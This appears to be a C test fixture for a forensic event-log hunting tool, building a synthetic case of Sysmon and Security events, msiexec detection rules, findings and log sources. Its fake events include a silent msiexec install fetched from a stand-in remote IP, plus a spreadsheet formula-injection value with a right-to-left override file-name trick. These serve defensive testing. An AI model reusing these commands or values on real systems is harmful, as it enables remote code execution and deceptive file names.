/* SPDX-License-Identifier: Apache-2.0 */
#include "report_case.h"

#include <dirent.h>

/* ---- names of other modules, as their headers write them ---- */

const char *role_name(enum role r)
{
	static const char *const names[] = {"stage", "corroborating", "supporting"};

	return names[r];
}

const char *clock_name(enum clock c)
{
	static const char *const names[] = {"logged", "occurred", "both"};

	return names[c];
}

const char *rule_language_name(enum rule_language l)
{
	static const char *const names[] = {"sigma", "sigma-correlation", "eql"};

	return names[l];
}

const char *rule_level_name(enum rule_level l)
{
	static const char *const names[] = {"none",   "informational", "low",
					    "medium", "high",          "critical"};

	return names[l];
}

/* ---- pieces ---- */

static struct view keep(struct report_case *c, const void *p, size_t n)
{
	struct view v = arena_keep(&c->arena, (struct view){p, n});

	assert_non_null(v.p);
	return v;
}

/* A text that an attacker could have written. */
static struct view text(struct report_case *c, const char *s)
{
	return c->inject ? keep(c, c->inject, c->inject_n) : keep(c, s, strlen(s));
}

/* The same where C ends it at the first NUL. */
const char *case_str(struct report_case *c, const char *s)
{
	char *kept = arena_str(&c->arena, text(c, s));

	assert_non_null(kept);
	return kept;
}

static uint64_t at(const char *s)
{
	uint64_t t;

	assert_true(time_parse(view_str(s), &t));
	return t;
}

static struct text_list texts(struct report_case *c, const char *const *v)
{
	struct view *l = arena_array(&c->arena, 8, sizeof(*l));
	struct text_list list = {l, 0};

	while (v[list.n]) {
		l[list.n] = text(c, v[list.n]);
		list.n++;
	}
	return list;
}
#define TEXTS(...) texts(c, (const char *const[]){__VA_ARGS__, NULL})

/* ---- events: rows of name, type, text; a number's text is decimal ---- */

struct row {
	const char *name;
	enum value_type type;
	const char *text;
};

static struct value value_of(struct report_case *c, const struct row *r)
{
	struct value v = {.type = (uint8_t)r->type};
	struct guid g;

	if (r->type == VALUE_GUID) {
		assert_true(guid_parse(view_str(r->text), &g));
		v.raw = keep(c, g.b, sizeof(g.b));
	} else if (r->type == VALUE_UTF8) {
		v.raw = text(c, r->text);
	} else {
		uint64_t n = strtoull(r->text, NULL, 0);

		v.raw = keep(c, &n, r->type == VALUE_UINT16   ? 2
				    : r->type == VALUE_UINT32 ? 4
							      : 8);
	}
	return v;
}

#define ROWS 24
struct made {
	const char *provider, *channel, *computer, *time;
	uint16_t event_id;
	uint64_t record_id;
	struct row rows[ROWS];
};

static struct event *event_of(struct report_case *c, const struct made *m)
{
	struct event *ev = arena_alloc(&c->arena, sizeof(*ev));

	ev->provider = view_str(m->provider);
	ev->channel = view_str(m->channel);
	ev->computer = text(c, m->computer);
	ev->event_id = m->event_id;
	ev->record_id = m->record_id;
	ev->time_created = at(m->time);
	ev->has_system = true;
	ev->section = SECTION_EVENTDATA;
	ev->fields = arena_array(&c->arena, ROWS, sizeof(*ev->fields));
	for (; m->rows[ev->n_fields].name; ev->n_fields++) {
		struct field *f = &ev->fields[ev->n_fields];

		f->name = view_str(m->rows[ev->n_fields].name);
		f->id = FIELD_NONE;
		f->value = value_of(c, &m->rows[ev->n_fields]);
	}
	return ev;
}

#define SYSMON "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"
#define SECURITY "Microsoft-Windows-Security-Auditing", "Security"
#define GUID_CMD "{5e1c9a10-3b7f-65a0-1100-000000000700}"
#define GUID_MSI "{5e1c9a10-3b80-65a0-1200-000000000700}"
#define GUID_SERVICE "{5e1c9a10-3b81-65a0-1300-000000000700}"
#define GUID_CHILD "{5e1c9a10-3b85-65a0-1400-000000000700}"
#define MSIEXEC "C:\\Windows\\System32\\msiexec.exe"

/* In the order of their times. */
static const struct made made[] = {
	{SECURITY, "WKS-07.corp.example", "2026-03-11T08:00:00.1234567Z", 4624, 88100,
	 {{"SubjectUserSid", VALUE_UTF8, "S-1-5-18"},
	  {"TargetUserSid", VALUE_UTF8, "S-1-5-21-1004336348-1177238915-682003330-1107"},
	  {"TargetUserName", VALUE_UTF8, "a.moreau"},
	  {"TargetDomainName", VALUE_UTF8, "CORP"},
	  {"TargetLogonId", VALUE_HEX64, "0x4a3f1"},
	  {"LogonType", VALUE_UINT32, "2"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:14:02.4410000Z", 1, 5120,
	 {{"RuleName", VALUE_UTF8, "-"},
	  {"UtcTime", VALUE_UTF8, "2026-03-11 09:14:02.438"},
	  {"ProcessGuid", VALUE_GUID, GUID_CMD},
	  {"ProcessId", VALUE_UINT32, "6120"},
	  {"Image", VALUE_UTF8, "C:\\Windows\\System32\\cmd.exe"},
	  {"OriginalFileName", VALUE_UTF8, "Cmd.Exe"},
	  {"CommandLine", VALUE_UTF8,
	   "\"C:\\Windows\\System32\\cmd.exe\" /c msiexec /q /i http://203.0.113.66/u/setup.msi"},
	  {"CurrentDirectory", VALUE_UTF8, "C:\\Users\\a.moreau\\Downloads\\"},
	  {"User", VALUE_UTF8, "CORP\\a.moreau"},
	  {"LogonId", VALUE_HEX64, "0x4a3f1"},
	  {"TerminalSessionId", VALUE_UINT32, "1"},
	  {"IntegrityLevel", VALUE_UTF8, "Medium"},
	  {"Hashes", VALUE_UTF8,
	   "SHA256=9F0A2C41D5B7E6338F1E4C0B7A6D92EE55AA10C37B2F48D19E6C03A4B58D7F21"},
	  {"ParentProcessGuid", VALUE_GUID, "{5e1c9a10-39aa-65a0-0900-000000000700}"},
	  {"ParentProcessId", VALUE_UINT32, "4012"},
	  {"ParentImage", VALUE_UTF8, "C:\\Windows\\explorer.exe"},
	  {"ParentCommandLine", VALUE_UTF8, "C:\\Windows\\Explorer.EXE"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:14:02.6020000Z", 1, 5121,
	 {{"UtcTime", VALUE_UTF8, "2026-03-11 09:14:02.600"},
	  {"ProcessGuid", VALUE_GUID, GUID_MSI},
	  {"ProcessId", VALUE_UINT32, "6188"},
	  {"Image", VALUE_UTF8, MSIEXEC},
	  {"OriginalFileName", VALUE_UTF8, "msiexec.exe"},
	  {"CommandLine", VALUE_UTF8, "msiexec  /q /i http://203.0.113.66/u/setup.msi"},
	  {"User", VALUE_UTF8, "CORP\\a.moreau"},
	  {"LogonId", VALUE_HEX64, "0x4a3f1"},
	  {"IntegrityLevel", VALUE_UTF8, "Medium"},
	  {"ParentProcessGuid", VALUE_GUID, GUID_CMD},
	  {"ParentProcessId", VALUE_UINT32, "6120"},
	  {"ParentImage", VALUE_UTF8, "C:\\Windows\\System32\\cmd.exe"},
	  {"ParentCommandLine", VALUE_UTF8,
	   "\"C:\\Windows\\System32\\cmd.exe\" /c msiexec /q /i http://203.0.113.66/u/setup.msi"}}},
	{SECURITY, "wks-07.corp.example", "2026-03-11T09:14:02.6030000Z", 4688, 88211,
	 {{"SubjectUserSid", VALUE_UTF8, "S-1-5-21-1004336348-1177238915-682003330-1107"},
	  {"SubjectUserName", VALUE_UTF8, "a.moreau"},
	  {"SubjectDomainName", VALUE_UTF8, "CORP"},
	  {"SubjectLogonId", VALUE_HEX64, "0x4a3f1"},
	  {"NewProcessId", VALUE_HEX64, "0x182c"},
	  {"NewProcessName", VALUE_UTF8, MSIEXEC},
	  {"ProcessId", VALUE_HEX64, "0x17e8"},
	  {"CommandLine", VALUE_UTF8, ""},
	  {"MandatoryLabel", VALUE_UTF8, "S-1-16-8192"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:14:03.0510000Z", 1, 5122,
	 {{"UtcTime", VALUE_UTF8, "2026-03-11 09:14:03.049"},
	  {"ProcessGuid", VALUE_GUID, GUID_SERVICE},
	  {"ProcessId", VALUE_UINT32, "6204"},
	  {"Image", VALUE_UTF8, MSIEXEC},
	  {"OriginalFileName", VALUE_UTF8, "msiexec.exe"},
	  {"CommandLine", VALUE_UTF8, "C:\\Windows\\system32\\msiexec.exe /V"},
	  {"User", VALUE_UTF8, "NT AUTHORITY\\SYSTEM"},
	  {"LogonId", VALUE_HEX64, "0x3e7"},
	  {"IntegrityLevel", VALUE_UTF8, "System"},
	  {"ParentProcessGuid", VALUE_GUID, "{5e1c9a10-3201-65a0-0300-000000000700}"},
	  {"ParentProcessId", VALUE_UINT32, "640"},
	  {"ParentImage", VALUE_UTF8, "C:\\Windows\\System32\\services.exe"},
	  {"ParentCommandLine", VALUE_UTF8, "C:\\Windows\\system32\\services.exe"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:14:04.3150000Z", 3, 5123,
	 {{"UtcTime", VALUE_UTF8, "2026-03-11 09:14:03.112"},
	  {"ProcessGuid", VALUE_GUID, GUID_SERVICE},
	  {"ProcessId", VALUE_UINT32, "6204"},
	  {"Image", VALUE_UTF8, MSIEXEC},
	  {"User", VALUE_UTF8, "NT AUTHORITY\\SYSTEM"},
	  {"Protocol", VALUE_UTF8, "tcp"},
	  {"Initiated", VALUE_UTF8, "true"},
	  {"SourceIsIpv6", VALUE_UTF8, "false"},
	  {"SourceIp", VALUE_UTF8, "192.0.2.17"},
	  {"SourceHostname", VALUE_UTF8, "WKS-07"},
	  {"SourcePort", VALUE_UINT16, "50112"},
	  {"DestinationIp", VALUE_UTF8, "203.0.113.66"},
	  {"DestinationHostname", VALUE_UTF8, "cdn.update-host.example"},
	  {"DestinationPort", VALUE_UINT16, "80"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:14:05.9000000Z", 3, 5124,
	 {{"UtcTime", VALUE_UTF8, "2026-03-11 09:14:04.700"},
	  {"ProcessGuid", VALUE_GUID, GUID_SERVICE},
	  {"ProcessId", VALUE_UINT32, "6204"},
	  {"Image", VALUE_UTF8, MSIEXEC},
	  {"User", VALUE_UTF8, "NT AUTHORITY\\SYSTEM"},
	  {"Protocol", VALUE_UTF8, "tcp"},
	  {"Initiated", VALUE_UTF8, "true"},
	  {"SourceIp", VALUE_UTF8, "2001:db8::17"},
	  {"SourcePort", VALUE_UINT16, "50113"},
	  {"DestinationIp", VALUE_UTF8, "2001:db8:66::1"},
	  {"DestinationPort", VALUE_UINT16, "443"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:14:07.2200000Z", 1, 5125,
	 {{"UtcTime", VALUE_UTF8, "2026-03-11 09:14:07.217"},
	  {"ProcessGuid", VALUE_GUID, GUID_CHILD},
	  {"ProcessId", VALUE_UINT32, "6350"},
	  {"Image", VALUE_UTF8, "C:\\Users\\Public\\MSI4F2.tmp"},
	  {"CommandLine", VALUE_UTF8, "=cmd|' /C calc'!A0 \xe2\x80\xae" "fdp.exe"},
	  {"User", VALUE_UTF8, "CORP\\a.moreau"},
	  {"LogonId", VALUE_HEX64, "0x51b22"},
	  {"IntegrityLevel", VALUE_UTF8, "High"},
	  {"ParentProcessGuid", VALUE_GUID, GUID_SERVICE},
	  {"ParentProcessId", VALUE_UINT32, "6204"},
	  {"ParentImage", VALUE_UTF8, MSIEXEC},
	  {"ParentCommandLine", VALUE_UTF8, "C:\\Windows\\system32\\msiexec.exe /V"},
	  {"", VALUE_UTF8, "unnamed one"},
	  {"", VALUE_UTF8, "unnamed two"},
	  {"Twice", VALUE_UINT32, "1"},
	  {"Twice", VALUE_UTF8, "second"}}},
	{SYSMON, "WKS-07.corp.example", "2026-03-11T09:16:40.0010000Z", 5, 5126,
	 {{"UtcTime", VALUE_UTF8, "2026-03-11 09:16:40.000"},
	  {"ProcessGuid", VALUE_GUID, GUID_CHILD},
	  {"ProcessId", VALUE_UINT32, "6350"},
	  {"Image", VALUE_UTF8, "C:\\Users\\Public\\MSI4F2.tmp"}}},
};
enum { LOGON, CMD, MSI, MSI_4688, SERVICE, NET_4, NET_6, CHILD, CHILD_END };
_Static_assert(CHILD_END + 1 == CASE_EVENTS, "the header knows how many there are");

static struct place place_of(size_t i)
{
	return (struct place){
		.source = made[i].event_id > 1000 ? 1 : 0,
		.offset = 4096 + 512 + i * 1800,
		.size = (uint32_t)(900 + i * 8),
		.chunk = 0,
	};
}

/* ---- findings ---- */

struct said_sid {
	const char *sid, *from;
	bool is_class;
};
static const struct said_sid by_logon = {"S-1-5-21-1004336348-1177238915-682003330-1107", "4624",
					 false};
static const struct said_sid by_class = {"S-1-5-21-", "class", true};
static const struct said_sid by_id = {"S-1-5-18", "logon-id", false};

static void evidence_make(struct report_case *c, struct finding *f, enum role role, uint32_t stage,
			  size_t i, const struct said_sid *sid)
{
	struct evidence *ev = &f->evidence[f->n_evidence++];
	struct record_proof *p = arena_alloc(&c->arena, sizeof(*p));
	const struct event *event = c->events[i];

	memset(p->record_sha256, (int)(16 + i), 32);
	memset(p->chunk_sha256, made[i].event_id > 1000 ? 0xcc : 0xbb, 32);
	p->known = true;
	p->witness = i == NET_6 ? text(c, "differ: SourcePort: 50113 <> 50114") : view_str("agree");
	ev->role = role;
	ev->stage = stage;
	ev->place = place_of(i);
	ev->time = ev->utc = event->time_created;
	ev->record_id = event->record_id;
	ev->user_sid = sid ? text(c, sid->sid) : view_str("");
	ev->user_sid_is_class = sid && sid->is_class;
	ev->user_sid_from = sid ? sid->from : "";
	ev->event = event;
	ev->proof = p;
}

static struct finding *finding_make(struct report_case *c, size_t i, uint32_t rule, size_t first,
				    size_t last)
{
	struct finding *f = &c->findings[i];

	snprintf(f->id, sizeof(f->id), "F-%031x%zx", 0x5eed, i + 1);
	f->rule = rule;
	f->computer = text(c, "WKS-07.corp.example");
	f->first_time = at(made[first].time);
	f->last_time = at(made[last].time);
	f->span_logged = f->last_time - f->first_time;
	f->span_occurred = f->span_logged;
	f->clock = CLOCK_BOTH;
	f->evidence = arena_array(&c->arena, 8, sizeof(*f->evidence));
	return f;
}

static void tree_node(struct report_case *c, struct finding *f, int32_t parent, int event,
		      const char *image, uint64_t pid, bool in)
{
	struct tree_node *n = &f->tree[f->n_tree++];

	n->parent = parent;
	n->pid = pid;
	n->image = text(c, image);
	n->in_finding = in;
	if (event < 0)
		return;
	n->start = place_of((size_t)event);
	n->start_time = at(made[event].time);
	n->event = c->events[event];
}

static void sequence_make(struct report_case *c)
{
	struct finding *f = finding_make(c, 1, 0, SERVICE, CHILD);
	static const char *const missing[] = {
		"process.code_signature.trusted == true: no Sysmon 7 of the image was found",
		"not process.code_signature.subject_name : \"Example\": this kind of record never "
		"carries it"};

	evidence_make(c, f, ROLE_STAGE, 1, SERVICE, &by_id);
	evidence_make(c, f, ROLE_STAGE, 2, NET_4, &by_id);
	evidence_make(c, f, ROLE_STAGE, 3, CHILD, &by_class);
	f->unverified = true;
	f->unchecked = arena_array(&c->arena, 2, sizeof(*f->unchecked));
	f->n_unchecked = 2;
	for (size_t i = 0; i < 2; i++)
		f->unchecked[i] = text(c, missing[i]);
	f->span_occurred = 41680000;
	f->other_clock = text(c, "record 5119 of Microsoft-Windows-Sysmon/Operational");
	f->clock = CLOCK_LOGGED;
	f->tree = arena_array(&c->arena, 8, sizeof(*f->tree));
	tree_node(c, f, -1, -1, "C:\\Windows\\System32\\services.exe", 640, false);
	tree_node(c, f, 0, SERVICE, MSIEXEC, 6204, true);
	tree_node(c, f, 1, CHILD, "C:\\Users\\Public\\MSI4F2.tmp", 6350, true);
	f->tree[2].end_time = at(made[CHILD_END].time);
	tree_node(c, f, 1, -1, "C:\\Windows\\System32\\conhost.exe", 6360, false);
	/* Not drawn: what else the same parent started, and a ring. */
	tree_node(c, f, 0, -1, "C:\\Windows\\System32\\svchost.exe", 900, false);
	tree_node(c, f, 4, -1, "C:\\Windows\\System32\\taskhostw.exe", 901, false);
	tree_node(c, f, 7, -1, "C:\\ring.exe", 902, false);
	tree_node(c, f, 6, -1, "C:\\ring.exe", 903, true);
}

static void findings_make(struct report_case *c)
{
	struct finding *f;

	c->findings = arena_array(&c->arena, 3, sizeof(*c->findings));
	f = finding_make(c, 0, 1, CMD, CMD);
	evidence_make(c, f, ROLE_STAGE, 1, CMD, &by_logon);
	evidence_make(c, f, ROLE_SUPPORTING, 1, LOGON, NULL);
	sequence_make(c);
	f = finding_make(c, 2, 2, MSI, NET_6);
	evidence_make(c, f, ROLE_STAGE, 1, MSI, &by_logon);
	evidence_make(c, f, ROLE_STAGE, 2, NET_4, &by_id);
	evidence_make(c, f, ROLE_STAGE, 2, NET_6, &by_id);
	evidence_make(c, f, ROLE_CORROBORATING, 1, MSI_4688, &by_logon);
	/* One that could not be read again. */
	f->evidence[2].place.bad_checksum = true;
	f->evidence[3].event = NULL;
	f->evidence[3].proof = NULL;
}

/* ---- rules ---- */

static void rule_texts(struct report_case *c, struct rule *r)
{
	r->status = text(c, "stable");
	r->author = text(c, "Example Author");
	r->date = text(c, "2026-01-05");
	r->license = text(c, "Example Rule License 1.0");
	r->references = TEXTS("https://rules.example/msiexec");
	r->tactics = TEXTS("Defense Evasion");
	r->techniques = TEXTS("T1218.007", "T1105");
	r->data_needed = TEXTS("Sysmon 1 or Security 4688 with command lines");
	r->false_positives = TEXTS("Administrators who install packages from an internal server.");
	r->triage = TEXTS("Read the address in the command line. Is it a server of the "
			  "organisation?",
			  "Find the package: the installer keeps a copy in C:\\Windows\\Installer.",
			  "Look at what the parent process did before and after.");
	r->response = TEXTS("Isolate the computer if the address is not known.",
			    "Keep the package and its hash; search other computers for both.");
	r->blind_spots = TEXTS("A command line that begins with msiexec, or names it by its path.");
}

static void rules_make(struct report_case *c)
{
	static const struct {
		const char *id, *title, *path;
		enum rule_language language;
		enum rule_level level;
	} rows[] = {
		{"3e441bdb-596c-44fd-8628-2cfdf4516ada",
		 "Potential Remote File Execution via MSIEXEC",
		 "rules/msiexec_remote_file_execution.eql", LANGUAGE_EQL, LEVEL_LOW},
		{"f7b5f842-a6af-4da5-9e95-e32478f3cd2f", "MsiExec Web Install",
		 "rules/msiexec_web_install.yml", LANGUAGE_SIGMA, LEVEL_MEDIUM},
		{"windows_http_network_communication_from_msiexec",
		 "Windows HTTP Network Communication From MSIExec",
		 "rules/msiexec_http_network_communication.yml", LANGUAGE_CORRELATION,
		 LEVEL_MEDIUM},
		{"00000000-0000-4000-8000-000000000001", "A rule without findings",
		 "rules/\xffnothing.yml", LANGUAGE_SIGMA, LEVEL_CRITICAL},
	};

	c->rules.rules = arena_array(&c->arena, TEST_COUNT(rows), sizeof(*c->rules.rules));
	c->rules.n = TEST_COUNT(rows);
	for (size_t i = 0; i < TEST_COUNT(rows); i++) {
		struct rule *r = &c->rules.rules[i];

		rule_texts(c, r);
		r->id = text(c, rows[i].id);
		r->title = text(c, rows[i].title);
		r->path = text(c, rows[i].path);
		r->language = rows[i].language;
		r->level = rows[i].level;
		r->description = text(c, "Tells when the Windows installer is made to fetch\na "
					 "package from the web.\n\nThis is rare on a workstation.");
		memset(r->sha256, (int)(0xa0 + i), 32);
	}
	c->rules.rules[0].has_risk = true;
	c->rules.rules[0].risk_score = 21;
	c->rules.replaced = arena_alloc(&c->arena, sizeof(*c->rules.replaced));
	c->rules.n_replaced = 1;
	c->rules.replaced[0] = (struct replaced){
		text(c, "f7b5f842-a6af-4da5-9e95-e32478f3cd2f"),
		text(c, "rules/msiexec_web_install.yml"), text(c, "published/web_install.yml")};
}

/* ---- sources ---- */

static struct source *source_make(struct report_case *c, uint32_t i, const char *path,
				  enum source_kind kind, const char *format)
{
	struct source *s = &c->list.v[i];

	s->index = i;
	s->path = arena_str(&c->arena, text(c, path));
	s->kind = kind;
	s->format = format;
	s->named = i == 0;
	s->size = 1118208 + i * 4096;
	s->hashed = kind == SOURCE_EVTX;
	memset(s->sha256, (int)(0x10 + i), 32);
	c->run.sources[i].source = s;
	return s;
}

static void counts_make(struct report_case *c, struct source_result *r, bool sysmon)
{
	r->counts = arena_array(&c->arena, 4, sizeof(*r->counts));
	if (sysmon) {
		static const uint16_t ids[] = {1, 3, 5};

		for (; r->n_counts < 3; r->n_counts++)
			r->counts[r->n_counts] = (struct count){
				view_str("Microsoft-Windows-Sysmon/Operational"),
				view_str("Microsoft-Windows-Sysmon"), ids[r->n_counts],
				40 * (r->n_counts + 1)};
		return;
	}
	r->counts[r->n_counts++] = (struct count){
		view_str("Security"), view_str("Microsoft-Windows-Security-Auditing"), 4688, 9000};
	r->counts[r->n_counts++] = (struct count){
		view_str("Security"), text(c, "Microsoft-Windows-Security-Auditing"), 4624, 411};
}

static void sign_make(struct report_case *c, struct source_result *r, enum sign_kind kind,
		      uint64_t n, const struct sign_place *p)
{
	struct sign *s;

	if (!r->signs)
		r->signs = arena_array(&c->arena, SIGN_KINDS, sizeof(*r->signs));
	s = &r->signs[r->n_signs++];
	*s = (struct sign){.kind = kind, .n = n, .amount = p->amount, .n_places = 1, .largest = *p};
	s->places = arena_array(&c->arena, 1, sizeof(*s->places));
	s->places[0] = *p;
}

static void signs_make(struct report_case *c, struct source_result *r)
{
	const struct sign_place cleared = {.offset = 70144, .chunk = 1, .record_id = 79100,
					   .time = at("2026-03-10T03:00:00.0000001Z"),
					   .computer = text(c, "WKS-07.corp.example"),
					   .account = text(c, "CORP\\eve")};
	const struct sign_place gap = {.offset = 139264, .chunk = 2, .record_id = 79206,
				       .time = at("2026-03-10T03:00:01Z"), .other_offset = 134000,
				       .other_id = 79200, .amount = 5, .bad_checksum = true,
				       .other_time = at("2026-03-10T03:00:00Z")};
	const struct sign_place whole = {.record_id = 500, .other_id = 90000};

	sign_make(c, r, SIGN_CLEARED, 1, &cleared);
	sign_make(c, r, SIGN_ID_GAP, 3, &gap);
	sign_make(c, r, SIGN_EXPORTED, 1, &whole);
}

static void result_make(struct report_case *c, struct source_result *r, bool sysmon)
{
	r->read = r->has_header = true;
	r->header_flags = 1;
	r->chunks = 17;
	r->chunks_used = 16;
	r->records = sysmon ? 240 : 9411;
	r->whole = sysmon ? 240 : 9399;
	r->not_asked = sysmon ? 0 : 8;
	r->header_major = 3;
	r->header_minor = 1;
	r->header_crc_ok = true;
	r->header_chunks = 16;
	r->header_next_id = sysmon ? 5145 : 88416;
	r->partly = sysmon ? 0 : 3;
	r->undecoded = sysmon ? 0 : 1;
	r->first_id = sysmon ? 4900 : 79000;
	r->last_id = r->first_id + r->records + 4;
	r->id_gaps = 5;
	r->first_time = at("2026-03-09T22:10:00.5000000Z");
	r->last_time = at("2026-03-11T17:02:11.0000001Z");
	r->bytes_header = 12288;
	r->bytes_record = 900000;
	r->bytes_zero = r->source->size - r->bytes_header - r->bytes_record;
	counts_make(c, r, sysmon);
	r->damage = arena_array(&c->arena, 2, sizeof(*r->damage));
	r->damage[r->n_damage++] = (struct damage){
		DAMAGE_NOTE, 0, 4096, "dirty",
		"The log was not closed: the header's counts are old."};
	if (sysmon)
		return;
	signs_make(c, r);
	r->checksums_bad = r->chunks_bad = r->losses = 1;
	r->damage[r->n_damage] = (struct damage){DAMAGE_LOSS, 69632, 65536, "records-checksum", ""};
	snprintf(r->damage[r->n_damage].what, sizeof(r->damage[0].what), "%.150s",
		 case_str(c, "The checksum over the records does not hold."));
	r->n_damage++;
}

static void sources_make(struct report_case *c)
{
	struct source *s;

	c->run.n_sources = 4;
	c->run.sources = arena_array(&c->arena, CASE_SOURCES, sizeof(*c->run.sources));
	c->list.v = arena_array(&c->arena, CASE_SOURCES, sizeof(*c->list.v));
	c->run.list = &c->list;
	source_make(c, 0, "evidence/WKS-07/Microsoft-Windows-Sysmon%4Operational.evtx", SOURCE_EVTX,
		    "EVTX");
	source_make(c, 1, "evidence/WKS-07/Security-\xe9t\xc3\xa9.evtx", SOURCE_EVTX, "EVTX");
	source_make(c, 2, "evidence/SRV-XP/SecEvent.Evt", SOURCE_RECOGNISED,
		    "legacy event log (.evt)");
	s = source_make(c, 3, "evidence/WKS-07/System.evtx", SOURCE_UNREADABLE, NULL);
	s->error.code = ERR_IO;
	snprintf(s->error.msg, sizeof(s->error.msg), "%.200s",
		 case_str(c, "cannot open evidence/WKS-07/System.evtx: Permission denied"));
	result_make(c, &c->run.sources[0], true);
	result_make(c, &c->run.sources[1], false);
}

static void hosts_make(struct report_case *c)
{
	struct host_count *h = arena_array(&c->arena, 3, sizeof(*h));

	for (size_t i = 0; i < 3; i++) {
		h[i].computer = text(c, i < 1 ? "SRV-02.corp.example" : "WKS-07.corp.example");
		h[i].channel = view_str(i == 1 ? "Microsoft-Windows-Sysmon/Operational"
						: "Security");
		h[i].n = 240 * (i + 1);
		h[i].first_time = at("2026-03-09T22:10:00.5000000Z");
		h[i].last_time = at("2026-03-11T17:02:11.0000001Z");
	}
	c->run.hosts = h;
	c->run.n_hosts = 3;
}

static void settings_make(struct report_case *c)
{
	struct run *run = &c->run;

	run->options = arena_array(&c->arena, 2, sizeof(*run->options));
	run->n_options = 2;
	run->options[0] = (struct option_value){"level", "low"};
	run->options[1] = (struct option_value){"rules", case_str(c, "rules")};
	run->versions = arena_array(&c->arena, 2, sizeof(*run->versions));
	run->n_versions = 2;
	run->versions[0] = (struct part_version){"evtxhound", program_version()};
	run->versions[1] = (struct part_version){"libevtx", "20181227"};
	run->command_line = case_str(c, "evtxhound hunt 'evidence/WKS-07' --out report");
	run->decoder = "evtxhound";
	run->timeline = "all";
	run->witness_mode = "libevtx, every record of a finding";
	run->build = "gcc 12.2.0";
	run->hashed = true;
	run->start = at("2026-11-22T15:00:00.0000000Z");
	run->end = at("2026-11-22T15:00:01.5000000Z");
	run->others = 7;
	run->links = 1;
	run->findings_hidden = 2;
	run->exit_code = 3;
}

void case_make(struct report_case *c, const char *inject, size_t n)
{
	memset(c, 0, sizeof(*c));
	arena_init(&c->arena, 64u << 20);
	c->inject = inject;
	c->inject_n = n;
	c->run.rules = &c->rules;
	c->run.case_facts[CASE_NUMBER] = case_str(c, "2026-117");
	c->run.case_facts[CASE_EXAMINER] = case_str(c, "A. Fournier");
	c->run.case_facts[CASE_NOTES] =
		case_str(c, "Seized on 12 March.\nThe seal was whole.\n\nSee the record of it.");
	c->run.dirfd = -1;
	for (size_t i = 0; i < CASE_EVENTS; i++)
		c->events[i] = event_of(c, &made[i]);
	rules_make(c);
	sources_make(c);
	hosts_make(c);
	settings_make(c);
	findings_make(c);
	c->array = (struct finding_array){c->findings, 3, 0};
	c->run.findings = finding_array_reader(&c->array);
	assert_int_equal(findings_count(&c->run.findings, &c->rules, &c->arena, &c->run.about, NULL), 0);
}

void case_free(struct report_case *c)
{
	arena_release(&c->arena);
}

int case_timeline(const struct report_case *c, struct timeline *t, bool backwards, struct err *e)
{
	struct arena scratch;
	int rc = 0;

	arena_init(&scratch, 16u << 20);
	for (size_t k = 0; rc == 0 && k < CASE_EVENTS; k++) {
		size_t i = backwards ? CASE_EVENTS - 1 - k : k;
		const struct event *ev = c->events[i];
		struct place p = place_of(i), other = p;
		struct activity act;

		if (activity_of(ev, &scratch, &act) < 0)
			rc = err_set(e, ERR_NOMEM, 0, "no memory for the test");
		rc = rc ? rc : timeline_add(t, ev, &act, &p, e);
		/* Every third record lies in another copy of the log too. */
		other.source = 3;
		other.recovered = true;
		if (rc == 0 && i % 3 == 0)
			rc = timeline_add(t, ev, &act, &other, e);
	}
	arena_release(&scratch);
	return rc;
}

/* ---- folders ---- */

void folder_make(struct folder *f)
{
	strcpy(f->path, "report-test-XXXXXX");
	assert_non_null(mkdtemp(f->path));
	f->fd = open(f->path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(f->fd >= 0);
}

static size_t folder_each(const struct folder *f, bool remove_them)
{
	DIR *d = opendir(f->path);
	struct dirent *entry;
	size_t n = 0;

	assert_non_null(d);
	while ((entry = readdir(d)) != NULL) {
		if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
			continue;
		n++;
		if (remove_them)
			assert_int_equal(unlinkat(f->fd, entry->d_name, 0), 0);
	}
	closedir(d);
	return n;
}

size_t folder_count(const struct folder *f)
{
	return folder_each(f, false);
}

void folder_free(struct folder *f)
{
	folder_each(f, true);
	close(f->fd);
	assert_int_equal(rmdir(f->path), 0);
}

struct buf folder_read(const struct folder *f, const char *name)
{
	struct buf b;
	char bytes[4096];
	ssize_t n;
	int fd = openat(f->fd, name, O_RDONLY | O_CLOEXEC);

	buf_init(&b, 0);
	if (fd < 0)
		fail_msg("there is no %s", name);
	while ((n = read(fd, bytes, sizeof(bytes))) > 0)
		buf_add(&b, bytes, (size_t)n);
	assert_int_equal(n, 0);
	close(fd);
	return b;
}
